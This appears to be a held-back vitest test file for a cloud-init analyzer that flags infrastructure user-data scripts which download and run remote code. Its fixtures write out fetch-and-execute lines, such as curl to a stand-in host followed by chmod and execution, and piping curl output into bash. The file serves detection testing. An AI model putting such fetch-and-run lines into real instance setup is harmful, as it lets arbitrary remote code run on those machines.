// Held-back: written with the variants before the shell user-data check, never used to tune it.
import { describe, expect, it } from 'vitest';
import { cloudInitAnalyzer } from '../../../../src/core/analyzers/infrastructure/cloud-init.js';
import { runAnalyzer } from '../../../helpers/analyzers.js';

const ids = (path: string, code: string) => runAnalyzer(cloudInitAnalyzer, { path, code }).map((f) => f.ruleId);

describe('held-back: shell-script user data', () => {
  it('catches a download saved, made executable and run, inside base64encode() of an Azure VM', () => {
    const code = 'resource "azurerm_linux_virtual_machine" "vm" {\n  custom_data = base64encode(<<-EOT\n    #!/bin/sh\n    curl -s -o /tmp/boot https://boot.example.org/boot\n    chmod +x /tmp/boot\n    /tmp/boot --join\n  EOT\n  )\n}\n';
    expect(ids('vm.tf', code)).toContain('iac.cloud-init-remote-code');
  });
  it('catches a standalone user-data script running a process substitution of curl', () => {
    expect(ids('deploy/user-data', '#!/bin/bash\nset -e\nbash <(curl -s https://x.example.com/setup)\n')).toContain('iac.cloud-init-remote-code');
  });
  it('stays quiet on reading the instance metadata service', () => {
    const code = 'resource "aws_instance" "a" {\n  user_data = <<-EOF\n    #!/bin/bash\n    ID=$(curl -fsS http://169.254.169.254/latest/meta-data/instance-id)\n    echo "$ID" > /etc/instance-id\n  EOF\n}\n';
    expect(ids('a.tf', code)).toEqual([]);
  });
});
